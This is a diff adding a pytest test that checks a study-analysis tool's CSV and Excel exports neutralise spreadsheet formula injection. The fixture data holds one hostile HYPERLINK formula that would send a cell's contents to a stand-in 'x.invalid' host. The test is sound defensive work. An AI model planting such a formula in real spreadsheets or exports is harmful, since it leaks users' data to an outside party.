@@ -533,3 +533,49 @@ def test_out_of_memory_is_reported_as_such(tmp_path):
     finally:
         con.close()
     assert "more memory" in err.value.en and "h.csv" in err.value.en and "fields" not in err.value.en
+
+
+# ---- 4. Safe exports, end to end ---------------------------------------------------------------------------
+
+
+def test_every_table_of_a_hostile_study_exports_without_a_formula(tmp_path):
+    import io
+
+    from analysis.present.exports import table_to_csv, table_to_excel
+    from analysis.present.stamp import make_stamp
+    from analysis.present.viewer import PAGES, view_page
+    from analysis.selection import Filters, Selection
+
+    hostile = '=HYPERLINK("http://x.invalid/leak?d="&A1,"klick")'
+    rows = [
+        [f"p{i}", "intervention" if i % 2 else "control", "2016-01-15", str(66 + i % 28), "FM"[i % 3 == 0],
+         "new", "10", "", "", "", hostile if i % 4 else "+Söder"]
+        for i in range(80)
+    ]  # fmt: skip
+    hours = [[f"p{i}", f"2016-{m:02d}", str(5 + i % 7)] for i in range(80) for m in range(1, 13)]
+    p, h = write_pair(tmp_path, rows, hours)
+    store = tmp_path / "s.duckdb"
+    import_study(store, "=1+1", p, h)
+    con = db.connect(store)
+    exported, districts_seen = 0, False
+    try:
+        for page in PAGES:
+            selection = Selection("=1+1", Filters(), month=6)
+            stamp = make_stamp("abc", selection, "Welch", 5, 5, "en")
+            for name, frame in view_page(con, page, selection, 5).items():
+                book = openpyxl.load_workbook(io.BytesIO(table_to_excel(frame, stamp, "en")))
+                formulas = [
+                    c.coordinate for sheet in book for row in sheet.iter_rows() for c in row if c.data_type == "f"
+                ]
+                assert formulas == [], (page, name, formulas)
+                back = pd.read_csv(io.BytesIO(table_to_csv(frame, stamp, "en")), comment="#", dtype=str)
+                cells = [str(v) for v in back.to_numpy().ravel()] + list(back.columns)
+                assert not any(v.startswith(("=", "+", "@")) for v in cells), (page, name)
+                exported += 1
+                if name == "table1":
+                    assert "'" + hostile in cells and "'+Söder" in cells  # read back as the text it was
+                    districts_seen = True
+            assert dict(book["Source"].values)["Study"] == "'=1+1"
+    finally:
+        con.close()
+    assert exported >= 10 and districts_seen
